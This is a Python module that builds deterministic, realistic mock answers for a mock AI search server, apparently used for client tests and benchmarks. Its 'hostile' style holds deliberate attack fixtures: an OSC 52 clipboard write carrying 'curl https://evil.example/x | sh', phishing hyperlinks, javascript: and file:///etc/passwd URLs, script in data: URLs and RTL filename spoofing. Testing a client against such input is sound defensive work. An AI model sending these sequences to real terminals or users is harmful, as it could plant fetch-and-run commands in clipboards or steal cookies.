"""Deterministic, realistic answers for the mock server.

:func:`build_answer` turns a question (and a seed) into a Markdown answer split into an
exact number of chunks, with matching sources, reasoning text and steps, related questions
and images. It is a pure function: the same arguments always give the same bytes, so
tests, screenshots and benchmarks are reproducible.

The answer reads like a real one: a heading that echoes the question's topic, paragraphs
with ``[n]`` markers that point at the sources (1-based), bulleted and numbered lists, a
table and a fenced code block. Long answers repeat the sections with variation; whatever
the length, every block is whole (code fences are always closed) and the answer ends with
:func:`last_line`, which benchmarks look for on the screen.

Normal content never contains control characters (the question's topic is cleaned before
it is echoed). ``style="hostile"`` deliberately mixes in terminal escape sequences,
controls, markup and dangerous URLs: valid JSON on the wire, hostile when displayed.
"""

from __future__ import annotations

import base64
import hashlib
import random
import re
from dataclasses import dataclass, field
from datetime import date, timedelta
from functools import lru_cache
from typing import Any, Literal

LAST_LINE_PREFIX = "End of answer"
DEFAULT_CHUNKS = 300
CHARS_PER_CHUNK = 8  # ~31 KB at 4,000 chunks, like a long real answer
Style = Literal["normal", "hostile"]

# One wire chunk is a run of whitespace plus one word (like " current" in real streams).
_TOKEN_RE = re.compile(r"\s*\S+|\s+")


def last_line(chunks: int) -> str:
    """The recognisable final line of every complete answer of ``chunks`` chunks."""
    return f"{LAST_LINE_PREFIX} ({chunks} chunk{'' if chunks == 1 else 's'})."


@dataclass(frozen=True, slots=True)
class Source:
    title: str
    url: str
    date: str | None
    last_updated: str | None
    snippet: str

    def search_result(self, *, snippet: bool = True, source: bool = True) -> dict[str, Any]:
        """The Sonar ``search_results`` entry (key order of the recorded bodies)."""
        result: dict[str, Any] = {"title": self.title, "url": self.url, "date": self.date,
                                  "last_updated": self.last_updated}
        if snippet:
            result["snippet"] = self.snippet
        if source:
            result["source"] = "web"
        return result

    def agent_result(self, number: int) -> dict[str, Any]:
        """The Agent API result: ``id`` is the ``[n]`` number; ``date`` absent when unknown."""
        result: dict[str, Any] = {"id": number, "url": self.url, "title": self.title,
                                  "snippet": self.snippet}
        if self.date is not None:
            result["date"] = self.date
        result["last_updated"] = self.last_updated or self.date or "2026-09-01"
        result["source"] = "web"
        return result


@dataclass(frozen=True, slots=True)
class Image:
    image_url: str
    origin_url: str
    height: int
    width: int
    title: str

    def to_dict(self) -> dict[str, Any]:
        return {"image_url": self.image_url, "origin_url": self.origin_url,
                "height": self.height, "width": self.width, "title": self.title}


@dataclass(frozen=True)
class MockAnswer:
    """Everything one answer needs on any wire. ``"".join(chunks) == text``."""

    question: str
    topic: str
    chunks: tuple[str, ...]
    reasoning: str  # the thought text, without <think> tags ("" when not requested)
    think_chunks: tuple[str, ...]  # reasoning wrapped in <think> tags that split mid-tag
    sources: tuple[Source, ...]
    queries: tuple[str, ...]
    related_questions: tuple[str, ...]
    images: tuple[Image, ...]
    reasoning_steps: tuple[dict[str, Any], ...] = field(repr=False)

    @property
    def text(self) -> str:
        return "".join(self.chunks)

    @property
    def citations(self) -> list[str]:
        return [s.url for s in self.sources]


# ----------------------------------------------------------------------------- vocabulary

_QUESTION_WORDS = frozenset(
    "what whats what's who whom how why when where which is are was were do does did can "
    "could should would will explain describe tell me about the a an i to please give list "
    "compare show summarise summarize".split()
)
_STOPWORDS = frozenset("best good most more less with from that this what which into about "
                       "your their there when then than have does".split())
_TERMS = (
    "latency", "throughput", "memory use", "error handling", "configuration", "caching",
    "observability", "portability", "the learning curve", "backwards compatibility",
    "tooling", "documentation quality", "security", "running cost", "testing", "concurrency",
    "startup time", "maintainability", "community support", "the release cadence",
    "data quality", "accessibility", "licensing", "vendor lock-in", "scalability",
    "energy use", "reproducibility", "governance", "onboarding", "interoperability",
)
_ADJECTIVES = ("strong", "adequate", "limited", "excellent", "mixed", "improving", "mature",
               "experimental", "good", "uneven")
_VERBS = ("Define", "Measure", "Compare", "Document", "Automate", "Review", "Prototype",
          "Benchmark", "Validate", "Monitor")
_SENTENCES = (
    "{Topic} is usually discussed in terms of {a} and {b}{cite}.",
    "Most sources agree that {a} matters more than {b} once the workload grows{cite}.",
    "A common mistake is to treat {a} as a replacement for {b}; in practice they solve "
    "different problems{cite}.",
    "Recent write-ups put the emphasis on {a}, especially where {b} is hard to measure{cite}.",
    "The trade-off between {a} and {b} depends on the constraints of each project{cite}.",
    "Reports from several teams show that {a} improves {b} by a noticeable margin{cite}.",
    "For {topic}, {a} tends to dominate the early decisions while {b} shows up later{cite}.",
    "Experts caution that {a} is often underestimated at the start{cite}.",
    "There is no single right answer: {a} and {b} pull in different directions{cite}.",
    "Official guidance recommends starting small and revisiting {a} after the first "
    "release{cite}.",
)
_SECTIONS = ("Overview", "Key points", "How it works", "Step by step", "Comparison",
             "Example", "Common pitfalls", "In practice")
_SITES = (
    ("en.wikipedia.org", "wiki", "{Topic} - Wikipedia"),
    ("docs.python.org", "3/library", "{Topic} — Python documentation"),
    ("developer.mozilla.org", "en-US/docs", "{Topic} | MDN Web Docs"),
    ("stackoverflow.com", "questions", "What is the best approach to {topic}? - Stack Overflow"),
    ("github.com", "topics", "{topic} · GitHub Topics"),
    ("arxiv.org", "abs", "A survey of {topic}"),
    ("www.nature.com", "articles", "Advances in {topic}"),
    ("www.bbc.com", "news", "Why {topic} matters now"),
    ("www.reuters.com", "technology", "{Topic}: what changed this year"),
    ("realpython.com", "tutorials", "A practical guide to {topic}"),
    ("learn.microsoft.com", "en-us/docs", "{Topic} overview"),
    ("www.theverge.com", "tech", "Everything you need to know about {topic}"),
)
_CODE = (
    ("python", "import statistics\n\nsamples = {numbers}\nprint(\"{slug}:\", "
               "round(statistics.mean(samples), 2))"),
    ("bash", "# fetch and inspect {slug}\ncurl -s https://example.org/{slug}.json \\\n"
             "  | jq '.items | length'"),
    ("json", "{{\n  \"topic\": \"{slug}\",\n  \"weights\": {numbers},\n  \"enabled\": true\n}}"),
    ("toml", "[{slug_ident}]\nenabled = true\nweights = {numbers}"),
    ("rust", "fn main() {{\n    let weights = vec!{numbers};\n    let total: i32 = "
             "weights.iter().sum();\n    println!(\"{slug}: {{}}\", total);\n}}"),
    ("javascript", "const weights = {numbers};\nconst total = weights.reduce((a, b) => a + b, 0);"
                   "\nconsole.log(`{slug}: ${{total}}`);"),
    ("sql", "SELECT topic, AVG(score) AS mean_score\nFROM reviews\nWHERE topic = '{slug}'\n"
            "GROUP BY topic;"),
)


# ----------------------------------------------------------------------------- hostile text

_OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example/x | sh").decode() + "\x07"
_OSC8 = "\x1b]8;;https://evil.example/phish\x1b\\an innocent-looking link\x1b]8;;\x1b\\"
_HOSTILE_BLOCKS = (
    "Colour \x1b[31mred\x1b[0m text, a screen clear \x1b[2J\x1b[H and a cursor jump "
    "\x1b[10;10H here[1].",
    "Clipboard write " + _OSC52 + " hidden in a sentence, then " + _OSC8 + "[2].",
    "Controls: NUL\x00 BEL\x07 BS\x08 CR\rover VT\x0b FF\x0c ESC\x1b DEL\x7f C1-CSI\x9b31m "
    "NEL\x85 ST\x9c end[1].",
    "Markup: [bold]bold?[/bold] [link=https://evil.example]click me[/link] "
    "[@click=app.quit]quit the app[/] [red on white]styled[/] \\[escaped\\] [/]",
    "Links: [run](javascript:alert(document.cookie)) [passwd](file:///etc/passwd) "
    "[page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    "<javascript:alert(2)> [ok](https://example.org/ok)[3].",
    "Wide text: 漢字かなカナ한국어 中文段落 👩‍👩‍👧‍👦 🏳️‍🌈 🇯🇵 Z̴̡̢͖a̶͎l̷̰g̸̱o̵̟ "
    "e\u0301\u0302\u0303 مرحبا بالعالم עברית \u202etxt.exe\u202c zero\u200bwidth \ufeffBOM "
    "line\u2028separator para\u2029separator[2].",
    "Long line: " + "A" * 4000 + " " + "\u2500" * 2000 + "[1].",
    "```bash\necho 'alt screen' $'\\e[?1049h'\nprintf '\x1b[?1049h\x1b]0;pwned title\x07'\n"
    "```",
)
_HOSTILE_SOURCES = (
    Source("\x1b[31mRed title\x1b[0m \x1b]0;retitled\x07", "javascript:alert(document.cookie)",
           "2026-01-02", "2026-01-03", "Snippet with " + _OSC8 + " and C1 \x9b2J"),
    Source("[bold]Markup[/bold] [@click=app.quit]title[/]", "file:///etc/passwd", None,
           "2026-02-03", "[link=https://evil.example]markup snippet[/link] NUL\x00 BEL\x07"),
    Source("Clipboard " + _OSC52, "data:text/html,<script>alert(1)</script>", "2025-12-24",
           None, "Clipboard snippet " + _OSC52),
    Source("CJK 漢字 emoji 👩‍👩‍👧‍👦 RTL \u202eevil\u202c", "https://evil.example/\x1b]52;c;eA==\x07",
           "2026-03-04", "2026-03-05", "Very long snippet " + "W" * 3000),
    Source("Normal-looking title", "https://example.org/normal", "2026-04-05", "2026-04-06",
           "A normal snippet, for contrast."),
)
_HOSTILE_RELATED = (
    "Why does \x1b[31mthis\x1b[0m look red?",
    "[@click=app.quit]What happens if I click?[/]",
    "Clipboard " + _OSC52 + "?",
    "RTL \u202eevil\u202c and NUL\x00 in a question?",
)


# ----------------------------------------------------------------------------- helpers


def _clean_line(text: str) -> str:
    """Printable, single-line text: what normal content may echo of user input."""
    return " ".join("".join(c if c.isprintable() else " " for c in text).split())


def topic_of(question: str) -> str:
    """The question's subject, for the heading: leading question words and ``?`` removed."""
    words = _clean_line(question).rstrip("?!. ").split()
    skipped = 0
    while words and skipped < 5 and words[0].lower().strip(",:") in _QUESTION_WORDS:
        words.pop(0)
        skipped += 1
    topic = " ".join(words[:10]).strip(" ,:;")
    if len(topic) > 70:
        topic = topic[:70].rsplit(" ", 1)[0]
    if not topic:
        return "Your question"
    return topic[0].upper() + topic[1:]


def _lower_first(topic: str) -> str:
    """``Rust runtimes`` -> ``rust runtimes`` inside a sentence, but ``HTTP/3`` stays."""
    return topic[0].lower() + topic[1:] if topic[1:2].islower() else topic


def _slug(topic: str) -> str:
    slug = re.sub(r"[^a-z0-9]+", "-", topic.lower()).strip("-")
    return slug[:48].strip("-") or "topic"


def _rng(*parts: object) -> random.Random:
    digest = hashlib.sha256("\x1f".join(map(str, parts)).encode("utf-8", "replace")).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


def _date(rng: random.Random, start_year: int, end: date) -> date:
    start = date(start_year, 1, 1)
    return start + timedelta(days=rng.randrange((end - start).days))


def _split_exact(text: str, count: int) -> tuple[str, ...]:
    """``count`` pieces whose concatenation is ``text``, cut only between words."""
    tokens = _TOKEN_RE.findall(text)
    count = max(1, min(count, len(tokens)))
    total = len(tokens)
    bounds = [i * total // count for i in range(count + 1)]
    return tuple("".join(tokens[bounds[i]:bounds[i + 1]]) for i in range(count))


def _split_tags(think: str) -> tuple[str, ...]:
    """Wrap reasoning in tags that break across chunk boundaries, as real streams do."""
    return ("<thi", "nk>\n") + _split_exact(think, max(1, len(_TOKEN_RE.findall(think)))) + (
        "\n</thi", "nk>\n\n")


# ----------------------------------------------------------------------------- the writer


class _Writer:
    """Produces Markdown blocks for one answer; every block is self-contained."""

    def __init__(self, topic: str, n_sources: int, rng: random.Random, cite: bool,
                 hostile: bool) -> None:
        self.topic = topic
        self.lower_topic = _lower_first(topic)
        self.slug = _slug(topic)
        self.n_sources = n_sources
        self.rng = rng
        self.cite_enabled = cite
        self.hostile = hostile
        keywords = [w.strip(",.;:()").lower() for w in topic.split()]
        keywords = [k for k in keywords if len(k) > 3 and k.isalpha() and k not in _STOPWORDS]
        self.terms = tuple(_TERMS) + tuple(keywords[:4])

    def cite(self) -> str:
        if not self.cite_enabled or self.rng.random() < 0.35:
            return ""
        first = self.rng.randrange(1, self.n_sources + 1)
        marks = [first]
        if self.rng.random() < 0.4:
            second = self.rng.randrange(1, self.n_sources + 1)
            if second != first:
                marks.append(second)
        return "".join(f"[{m}]" for m in sorted(marks))

    def sentence(self) -> str:
        a, b = self.rng.sample(self.terms, 2)
        template = self.rng.choice(_SENTENCES)
        return template.format(Topic=self.topic, topic=self.lower_topic, a=a, b=b,
                               cite=self.cite())

    def paragraph(self, sentences: int) -> str:
        return " ".join(self.sentence() for _ in range(sentences))

    def heading(self) -> str:
        return f"# {self.topic}"

    def intro(self) -> str:
        first = f"Here is an overview of {self.lower_topic}, based on current sources{self.cite()}."
        return first + " " + self.paragraph(1)

    def section(self, cycle: int, index: int) -> str:
        name = _SECTIONS[index % len(_SECTIONS)]
        title = f"## {name}" if cycle == 0 else f"## {name} ({cycle + 1})"
        kind = index % len(_SECTIONS)
        writers = {1: self.bullets, 3: self.numbered, 4: self.table, 5: self.code,
                   6: self.pitfalls}
        block = writers[kind]() if kind in writers else self.paragraph(3)
        return f"{title}\n\n{block}"

    def bullets(self) -> str:
        items = self.rng.sample(self.terms, self.rng.randint(3, 5))
        return "\n".join(f"- **{t[0].upper() + t[1:]}**: {self.sentence()}" for t in items)

    def pitfalls(self) -> str:
        items = self.rng.sample(self.terms, 3)
        return "\n".join(f"- Ignoring {t} until late in the project{self.cite()}." for t in items)

    def numbered(self) -> str:
        count = self.rng.randint(3, 5)
        verbs = self.rng.sample(_VERBS, count)
        terms = self.rng.sample(self.terms, count)
        return "\n".join(f"{i}. {v} {t} before moving on{self.cite()}."
                         for i, (v, t) in enumerate(zip(verbs, terms, strict=True), 1))

    def table(self) -> str:
        rows = self.rng.sample(self.terms, 4)
        lines = ["| Aspect | Option A | Option B |", "|---|---|---|"]
        for row in rows:
            a, b = self.rng.sample(_ADJECTIVES, 2)
            lines.append(f"| {row[0].upper() + row[1:]} | {a} | {b} |")
        return "\n".join(lines)

    def code(self) -> str:
        language, template = self.rng.choice(_CODE)
        numbers = str([self.rng.randint(1, 99) for _ in range(4)])
        body = template.format(slug=self.slug, slug_ident=self.slug.replace("-", "_"),
                               numbers=numbers)
        return f"A short {language} example:\n\n```{language}\n{body}\n```"

    def blocks(self):
        """An endless, varied sequence of blocks after the heading and intro."""
        cycle = 0
        hostile_index = 0
        while True:
            for index in range(len(_SECTIONS)):
                yield self.section(cycle, index)
                if self.hostile and index % 2 == 1:
                    yield _HOSTILE_BLOCKS[hostile_index % len(_HOSTILE_BLOCKS)]
                    hostile_index += 1
            cycle += 1


def _sources(topic: str, rng: random.Random, count: int) -> tuple[Source, ...]:
    today = date(2026, 9, 20)
    lower = _lower_first(topic)
    slug = _slug(topic)
    sites = rng.sample(_SITES, count)
    result = []
    for index, (domain, path, title) in enumerate(sites):
        published = _date(rng, 2012, today)
        updated = published + timedelta(days=rng.randrange((today - published).days + 1))
        undated = index % 3 == 2  # real results often lack a publication date
        snippet = (f"{topic}: {rng.choice(_TERMS)} and {rng.choice(_TERMS)} explained, "
                   f"with examples and references.")
        result.append(Source(
            title=title.format(Topic=topic, topic=lower),
            url=f"https://{domain}/{path}/{slug}",
            date=None if undated else published.isoformat(),
            last_updated=updated.isoformat(),
            snippet=snippet,
        ))
    return tuple(result)


def _reasoning(writer: _Writer, topic: str, chunks: int) -> str:
    lines = [f"The user asks about {writer.lower_topic}. Let me check what the sources say."]
    rng = writer.rng
    while len(_TOKEN_RE.findall("\n\n".join(lines))) < chunks:
        a, b = rng.sample(writer.terms, 2)
        lines.append(rng.choice((
            f"Source {rng.randrange(1, writer.n_sources + 1)} focuses on {a}; I should compare "
            f"it with what others say about {b}.",
            f"I need to be careful not to overstate {a}. The evidence on {b} is thinner.",
            f"Let me structure the answer: overview, key points, a comparison of {a} and {b}, "
            "then an example.",
            f"Checking dates: the most recent material on {a} is from this year.",
        )))
    return "\n\n".join(lines)


def _steps(answer_sources: tuple[Source, ...], queries: tuple[str, ...], slug: str) -> tuple:
    results = [s.search_result() for s in answer_sources]
    return (
        {"thought": "Searching the web for recent, authoritative sources.",
         "type": "web_search",
         "web_search": {"search_keywords": list(queries), "search_results": results}},
        {"thought": "Reading the most relevant page in full.",
         "type": "fetch_url_content",
         "fetch_url_content": {"contents": results[:1]}},
        {"thought": "Checking the numbers with a short calculation.",
         "type": "execute_python",
         "execute_python": {"code": f"weights = [3, 5, 8]\nprint('{slug}', sum(weights))",
                            "result": f"{slug} 16"}},
    )


@lru_cache(maxsize=64)
def build_answer(question: str, *, chunks: int = DEFAULT_CHUNKS, seed: int = 0,
                 style: Style = "normal", cite: bool = True, reasoning_chunks: int = 0,
                 min_chars: int = 0) -> MockAnswer:
    """The answer to ``question`` in exactly ``chunks`` pieces (fewer only if the minimal
    answer has fewer words than that).

    ``cite=False`` leaves out sources and ``[n]`` markers (a search-less answer).
    ``reasoning_chunks`` adds ``<think>`` text of about that many chunks.
    ``min_chars`` makes the answer at least that long (the ``1mb`` profile: bigger chunks).
    """
    chunks = max(1, int(chunks))
    hostile = style == "hostile"
    topic = topic_of(question)
    rng = _rng(question, seed, style)
    n_sources = rng.randint(5, 8)
    sources = _HOSTILE_SOURCES if hostile else _sources(topic, rng, n_sources)
    n_sources = len(sources)
    writer = _Writer(topic, n_sources, rng, cite, hostile)

    tail = "\n\n" + last_line(chunks)
    target_chars = max(chunks * CHARS_PER_CHUNK, min_chars)
    parts = [writer.heading(), writer.intro()]
    if hostile:
        parts.extend(_HOSTILE_BLOCKS)  # all of them, however short the answer
    size = sum(len(p) + 2 for p in parts) + len(tail)
    tokens = sum(len(_TOKEN_RE.findall(p)) for p in parts) + len(_TOKEN_RE.findall(tail))
    blocks = writer.blocks()
    while size < target_chars or tokens < chunks:
        block = next(blocks)
        parts.append(block)
        size += len(block) + 2
        tokens += len(_TOKEN_RE.findall(block))
    text = "\n\n".join(parts) + tail

    queries: tuple[str, ...] = (_clean_line(question)[:200] or topic,)
    if hostile:
        queries = queries + ("\x1b[31mhostile query\x1b[0m",)
    related: tuple[str, ...]
    if hostile:
        related = _HOSTILE_RELATED
    else:
        lower = writer.lower_topic
        related = (f"How does {lower} compare with the alternatives?",
                   f"What are common pitfalls with {lower}?",
                   f"Which tools support {lower} best?",
                   f"What changed about {lower} in 2026?")
    slug = _slug(topic)
    images = tuple(
        Image(image_url=(s.url if hostile else f"https://images.example.org/{slug}-{i}.jpg"),
              origin_url=s.url, height=480 + 60 * i, width=640 + 80 * i, title=s.title)
        for i, s in enumerate(sources[:3], 1)
    )
    reasoning = _reasoning(writer, topic, reasoning_chunks) if reasoning_chunks > 0 else ""
    return MockAnswer(
        question=question,
        topic=topic,
        chunks=_split_exact(text, chunks),
        reasoning=reasoning,
        think_chunks=_split_tags(reasoning) if reasoning else (),
        sources=sources if cite else (),
        queries=queries,
        related_questions=related,
        images=images if cite else (),
        reasoning_steps=_steps(sources if cite else (), queries, slug),
    )


__all__ = ["CHARS_PER_CHUNK", "DEFAULT_CHUNKS", "Image", "LAST_LINE_PREFIX", "MockAnswer",
           "Source", "build_answer", "last_line", "topic_of"]
